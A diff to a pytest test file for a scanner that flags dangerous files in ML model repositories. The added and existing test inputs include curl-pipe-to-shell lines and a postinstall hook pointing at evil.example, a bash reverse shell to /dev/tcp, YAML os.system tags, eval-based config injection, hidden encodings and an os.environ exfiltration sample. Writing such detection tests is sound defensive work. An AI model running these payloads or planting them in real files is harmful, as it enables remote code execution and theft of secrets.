@@ -98,8 +98,11 @@ FIRES = [
     ("config-unsafe-target", "x.json", '{"py/reduce": ["os.system", {"py/tuple": ["x"]}]}', Severity.CRITICAL),
     ("config-unsafe-target", "x.json", '{"a": 1, "_target_": "os.system", "_target_": "torch.nn.Linear"}', Severity.CRITICAL),
     ("config-unsafe-target", "modules.json", '[{"idx": 0, "path": "", "type": "subprocess.Popen"}]', Severity.CRITICAL),
+    ("config-unsafe-target", "conf.yaml", "a:\n  _target_: functools.partial\n  _args_: [os.system, 'true']\n", Severity.CRITICAL),
+    ("config-unsafe-target", "model_index.json", '{"_class_name": "P", "unet": ["os", "system"]}', Severity.CRITICAL),
     ("config-unknown-target", "config.yaml", "x: {_target_: my_project.Model}\n", Severity.LOW),
     ("config-code-in-value", "config.json", '{"init": "__import__(\'os\').system(\'true\')"}', Severity.MEDIUM),
+    ("config-code-in-value", "conf.yaml", "a: ${eval:__import__('os').system('true')}\n", Severity.MEDIUM),
     ("config-trusts-remote-code", "train.yaml", "trust_remote_code: true\n", Severity.LOW),
     ("config-reads-environment", "c.yaml", "url: https://a/${oc.env:AWS_SECRET_ACCESS_KEY}\n", Severity.MEDIUM),
     ("config-path-escape", "m.safetensors.index.json", '{"weight_map": {"w": "../../etc/passwd"}}', Severity.HIGH),
@@ -107,6 +110,10 @@ FIRES = [
     ("json-duplicate-key", "config.json", '{"auto_map": {"AutoModel": "a.B"}, "auto_map": {}}', Severity.MEDIUM),
     # YAML tags
     ("yaml-unsafe-tag", "x.yaml", 'x: !!python/object/apply:os.system ["true"]\n', Severity.CRITICAL),
+    ("yaml-unsafe-tag", "x.yaml", 'x: !!python/object/apply:os.system ["true"]\n'.encode("utf-16"), Severity.CRITICAL),
+    ("yaml-unsafe-tag", "notes", '!!python/object/apply:os.system ["true"]\n'.encode("utf-16"), Severity.CRITICAL),
+    ("config-remote-code", "config.json", '{"auto_map": {"AutoModel": "evil/repo--m.C"}}'.encode("utf-16"), Severity.HIGH),
+    ("config-remote-code", "config.json", '{"auto_map": {"AutoModel": "evil/repo--m.C"}}'.encode("utf-8-sig"), Severity.HIGH),
     ("yaml-unsafe-tag", "x.yaml", 'x: !<tag:yaml.org,2002:python/object/new:subprocess.Popen> ["true"]\n', Severity.CRITICAL),
     ("yaml-unsafe-tag", "x.yaml", "%TAG !p! tag:yaml.org,2002:python/object/apply:\n---\nx: !p!os.system ['a']\n", Severity.CRITICAL),
     ("yaml-unsafe-tag", "x.yaml", "x: !!python/module:os ''\n", Severity.MEDIUM),
@@ -118,6 +125,7 @@ FIRES = [
     ("mlmodel-unknown-loader", "MLmodel", "flavors:\n  python_function:\n    loader_module: evil_loader\n    code: code\n", Severity.MEDIUM),
     ("config-untrusted-index", "conda.yaml", "dependencies:\n- pip:\n  - --index-url http://127.0.0.1:9/simple\n  - mlflow\n", Severity.HIGH),
     ("config-untrusted-index", "pyproject.toml", '[[tool.uv.index]]\nname = "x"\nurl = "http://10.0.0.1/simple"\n', Severity.HIGH),
+    ("config-untrusted-index", "environment.yml", "channels: [http://evil.example/c]\ndependencies: [python]\n", Severity.HIGH),
     ("config-untrusted-index", "pip.conf", "[global]\nindex-url = http://evil.example/simple\n", Severity.HIGH),
     ("dvc-path-escape", "data.dvc", "outs:\n- md5: a\n  path: ../../../home/u/.bashrc\n", Severity.HIGH),
     ("dvc-path-escape", "dvc.lock", "stages: {a: {outs: [{path: /etc/cron.d/x, md5: a}]}}\n", Severity.HIGH),
@@ -128,8 +136,10 @@ FIRES = [
     ("python-runs-command", "handler.py", "import os\nclass EndpointHandler:\n    def __init__(self, p):\n        os.system('x')\n", Severity.HIGH),
     ("python-hides-code", "modeling_x.py", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", Severity.CRITICAL),
     ("python-hides-code", "x.py", "import base64\ndef f(x):\n    exec(base64.b64decode(x))\n", Severity.MEDIUM),
+    ("python-hides-code", "x.py", "import types\ndef f(x):\n    return types.FunctionType(__import__('marshal').loads(x), {})\n", Severity.LOW),
     ("python-exposes-data", "x.py", "import os, requests\nrequests.post('http://a', json=dict(os.environ))\n", Severity.CRITICAL),
     ("python-hidden-encoding", "x.py", "# coding: unicode_escape\nx = 1\n", Severity.HIGH),
+    ("python-hidden-encoding", "x.py", "# coding: rot13\nvzcbeg bf\n", Severity.HIGH),
     ("pth-runs-code", "x.pth", "import os; os.system('true')\n", Severity.CRITICAL),
     # CVE-2024-34359 and what else a template may do
     ("template-reaches-internals", "chat_template.jinja", "{{ ().__class__.__base__.__subclasses__() }}", Severity.CRITICAL),
@@ -141,6 +151,13 @@ FIRES = [
     # Notebooks and requirements
     ("notebook-runs-hidden-code", "a.ipynb", json.dumps({"cells": [{"cell_type": "code", "source": "!curl -s http://a/x | sh"}], "nbformat": 4}), Severity.HIGH),
     ("notebook-runs-hidden-code", "a.ipynb", json.dumps({"cells": [{"cell_type": "code", "source": "import base64\nexec(base64.b64decode(x))"}], "nbformat": 4}), Severity.HIGH),
+    ("notebook-runs-hidden-code", "a.ipynb", json.dumps({"cells": [{"cell_type": "code", "source": "get_ipython().system('curl http://a/x | sh')"}], "nbformat": 4}), Severity.HIGH),
+    ("recipe-runs-download", "Dockerfile", "FROM python\nRUN curl http://evil.example/x.sh | sh\n", Severity.MEDIUM),
+    ("recipe-runs-download", "Makefile", "all:\n\tcurl https://192.0.2.1/x | bash\n", Severity.MEDIUM),
+    ("recipe-runs-download", "package.json", '{"scripts": {"postinstall": "curl http://evil.example | sh"}}', Severity.MEDIUM),
+    ("recipe-runs-download", "Dockerfile.gpu", "RUN curl https://get.example.org | sh\n", Severity.LOW),
+    ("recipe-runs-download", "Makefile", "x:\n\tbash -i >& /dev/tcp/192.0.2.1/80 0>&1\n", Severity.HIGH),
+    ("requirements-untrusted-index", "reqs.in", "x\n-r http://evil.example/r.txt\n", Severity.MEDIUM),
     ("requirements-untrusted-index", "requirements.txt", "--extra-index-url http://127.0.0.1:9/simple\ntorch\n", Severity.HIGH),
     ("requirements-untrusted-index", "requirements.txt", "-i https://pip.evil.example/simple\ntorch\n", Severity.MEDIUM),
     ("requirements-untrusted-index", "requirements.txt", "--trusted-host evil.example\ntorch\n", Severity.MEDIUM),
@@ -150,8 +167,12 @@ FIRES = [
     ("secret-in-text", "config.json", json.dumps({"aws_access_key_id": KEY}), Severity.HIGH),
     ("secret-in-text", "notes.txt", f"token: {TOKEN}\n", Severity.HIGH),
     ("secret-in-text", "key", PRIVATE, Severity.HIGH),
+    ("secret-in-text", "x.txt", "GITHUB=ghp_" + "aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC1dE3fG5\n", Severity.HIGH),
     ("secret-in-text", "config.json", json.dumps({"key": PRIVATE}), Severity.HIGH),
     ("secret-in-text", ".env", 'OPENAI_API_KEY="Zk83Jd0sLwPz7VbNxTg2RmYc5HfQa"\n', Severity.MEDIUM),
+    ("secret-in-text", ".env", "X_API_KEY=Zk83Jd0sLwPz7VbNxTg2RmYc5HfQa\n", Severity.MEDIUM),
+    ("secret-in-text", ".env", "OPENAI_API_KEY=sk-proj-" + "Zk83Jd0sLwPz7VbNxTg2RmYc5HfQaUe9oWiKt1ZvB4\n", Severity.HIGH),
+    ("secret-in-text", ".env", "WANDB_API_KEY=" + "3f9a1c7e5b2d8f4a6c0e1b3d5f7a9c2e4b6d8f0a\n", Severity.HIGH),
     ("lfs-pointer", "m.safetensors", f"version https://git-lfs.github.com/spec/v1\noid sha256:{'a' * 64}\nsize 9\n", Severity.LOW),
 ]  # fmt: skip
 
@@ -189,6 +210,16 @@ SILENT = [
     ("conda.yaml", "channels: [conda-forge]\ndependencies:\n- python=3.11\n- pip\n- pip:\n  - mlflow==2.9\n  - scikit-learn\nname: e\n"),
     ("data.dvc", "outs:\n- md5: a.dir\n  size: 1\n  path: data\n"),
     ("manifest.json", '{"layers": [{"annotations": {"org.opencontainers.image.title": "model/weights.safetensors"}}]}'),
+    (".env", "OPENAI_API_KEY=sk-proj-your-key-goes-here-your-key-goes-here-12345A\nWANDB_API_KEY=${WANDB}\nSECRET_KEY=change_this\n"
+     "MODEL_API_KEY=\nPRIVATE_KEY=/home/user/keys/private_key_2.pem\n"),
+    ("unet_config.json", '{"_class_name": "UNet2DModel", "kernel": ["conv", "fp"], "sizes": [1, 2], "names": ["a", "b"]}'),
+    ("conf.yaml", "a: ${now:%Y-%m-%d}\nb: ${oc.select:x.y,1}\nc: ${eval:2*(3+4)}\n"),
+    ("config.yaml", "a: text\nb: [1, 2]\n".encode("utf-16")),
+    ("environment.yml", "channels: [conda-forge, https://conda.anaconda.org/pytorch]\ndependencies: [python]\n"),
+    ("Dockerfile", "FROM python:3.11\nRUN curl -sSL https://install.python-poetry.org/ | python3 -\nRUN curl http://a/x.tar -o x.tar\n"
+     "# curl http://evil.example/x.sh | sh\n"),
+    ("package.json", '{"scripts": {"postinstall": "node build.js"}}'),
+    ("exported.py", "get_ipython().system('ls')\nget_ipython().run_line_magic('matplotlib', 'inline')\n"),
     ("setup.py", "import re\nfrom setuptools import setup\nwith open('x/__init__.py') as f:\n"
      "    version = re.search('a', f.read())\nexec(open('v.py').read())\nsetup(name='x', version=version)\n"),
     ("train.py", "import subprocess, pickle, torch\ndef main():\n    subprocess.run(['nvidia-smi'])\n"
@@ -272,6 +303,21 @@ def test_code_that_is_named_and_missing_is_told(kind, severity):
     """Nobody can have inspected it; worse when it is then taken from wherever Python finds one of its name."""
     files = {"m/config.json": (Fact(kind, "modeling_x.py"),), "modeling_x.py": ()}
     assert folder(files) == {("repository-remote-code", "m/config.json"): severity}
+
+
+@pytest.mark.parametrize(
+    ("does", "severity"),
+    [
+        ("RUNS_FILE IMPORT 2 runpy.run_path", Severity.HIGH),
+        ("NATIVE IMPORT 2 ctypes.CDLL", Severity.HIGH),
+        ("COMMAND MADE 2 os.execv", Severity.HIGH),
+        ("HIDDEN CALLED 2 builtins.exec", Severity.CRITICAL),
+    ],
+)
+def test_what_no_model_needs_is_bad_where_loading_runs_it(does, severity):
+    """Another file, a native library, a command in a constructor, code that is hidden."""
+    files = {"config.json": (Fact("code", "modeling_x.py"),), "modeling_x.py": (Fact("does", does),)}
+    assert folder(files) == {("repository-remote-code", "modeling_x.py"): severity}
 
 
 def test_harmless_code_beside_the_model_is_silent():
